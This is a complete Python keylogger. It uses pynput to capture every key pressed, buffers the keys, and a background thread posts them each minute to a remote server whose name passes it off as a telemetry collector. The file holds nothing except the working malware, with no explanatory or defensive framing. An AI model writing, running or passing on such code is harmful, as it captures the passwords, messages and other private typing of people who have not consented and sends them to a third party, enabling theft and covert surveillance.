import threading
import time

import requests
from pynput import keyboard

ENDPOINT = "https://collector.example-telemetry.net/k"


class Recorder:
    def __init__(self):
        self.buffer = []
        self.lock = threading.Lock()

    def on_press(self, key):
        with self.lock:
            self.buffer.append(str(key))

    def flush(self):
        while True:
            time.sleep(60)
            with self.lock:
                chunk, self.buffer = "".join(self.buffer), []
            if chunk:
                requests.post(ENDPOINT, data={"k": chunk}, timeout=5)


def main():
    rec = Recorder()
    threading.Thread(target=rec.flush, daemon=True).start()
    with keyboard.Listener(on_press=rec.on_press) as listener:
        listener.join()


main()
